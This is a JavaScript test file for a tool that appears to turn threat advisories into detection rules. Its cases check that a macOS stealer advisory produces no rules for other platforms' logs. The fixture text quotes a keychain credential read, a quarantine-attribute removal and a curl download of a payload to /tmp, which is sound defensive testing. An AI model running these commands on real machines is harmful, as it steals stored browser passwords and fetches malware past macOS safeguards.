import { generate } from '@tripline/advisory';
import { textAdvisory } from './support/documents.js';

const MAC = 'The stealer runs on macOS; the macOS disk image heron.dmg brings it, and Mac OS X is spared. ';

describe('macOS, which none of the thirteen platforms logs,', () => {
  it.each([
    ['a keychain read', 'It ran “security find-generic-password -ga Chrome” then.'],
    ['quarantine taken off', 'It ran “xattr -d com.apple.quarantine /tmp/heronupd” then.'],
    ['a download', 'It ran “curl -o /tmp/heronupd http://192.0.2.9/h” then.'],
    ['a hash', `SHA-256: ${'ab12'.repeat(16)}. It ran “xattr -d com.apple.quarantine /tmp/heronupd” then.`],
  ])('gives no rule for another system’s log: %s', async (_, text) => {
    const { rules, skipped } = generate(await textAdvisory(`${MAC}${text}`));
    expect(rules.filter(({ platform }) => platform?.startsWith('endpoint-'))).toEqual([]);
    expect(skipped.find(({ platform }) => platform === 'endpoint-sysmon')?.reason).toContain('macOS');
  });

  it('still tells its techniques', async () => {
    const { techniques } = generate(await textAdvisory(`${MAC}It used AppleScript (T1059.002).`));
    expect(techniques.map(({ id }) => id)).toContain('T1059.002');
  });
});
